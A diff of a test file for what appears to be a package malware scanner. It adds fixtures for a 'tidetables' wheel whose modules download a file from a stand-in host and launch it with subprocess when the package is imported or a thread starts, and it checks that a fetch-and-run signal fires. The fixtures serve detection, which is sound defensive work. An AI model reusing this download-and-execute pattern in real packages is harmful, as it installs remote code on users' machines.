@@ -1,8 +1,9 @@
 """What importing a package does by another of its modules."""
+# ruff: noqa: E501 - the lines of other people's code are as long as they are
 
 import pytest
 
-from tests.scanner.signals.built import WHEEL, findings, wheel
+from tests.scanner.signals.built import WHEEL, findings, fired, wheel
 
 SENDS = b"""import getpass
 import urllib.request
@@ -81,3 +82,22 @@ def test_modules_that_call_each_other_come_to_an_end() -> None:
         for n in range(50)
     }
     _told({"__init__": b"from .m0 import go\ngo()\n"} | ring)
+
+
+FETCH = "from urllib.request import urlopen\n\n\ndef fetch(path):\n    with open(path, 'wb') as out:\n        out.write(urlopen('https://c.example.invalid/x').read())\n    return path\n"
+LAUNCH = "import subprocess\n\n\ndef launch(path):\n    subprocess.Popen([path])\n"
+CORE = "from .net import fetch\nfrom .proc import launch\n\n\ndef refresh():\n    launch(fetch('/tmp/x'))\n"
+
+
+@pytest.mark.parametrize(
+    ("begins", "told"),
+    [
+        pytest.param("refresh()\n", True, id="by an import"),
+        pytest.param("import threading\nthreading.Thread(target=refresh).start()\n", True, id="by a thread"),
+        pytest.param("def tides():\n    refresh()\n", False, id="when it is asked"),
+    ],
+)
+def test_what_one_module_fetches_another_starts_by_way_of_a_third(begins: str, told: bool) -> None:
+    files = {"__init__": f"from .core import refresh\n\n{begins}", "core": CORE, "net": FETCH, "proc": LAUNCH}
+    built = wheel({f"tidetables/{name}.py": text.encode() for name, text in files.items()})
+    assert ("import-fetches-and-runs" in fired(WHEEL, built)) is told
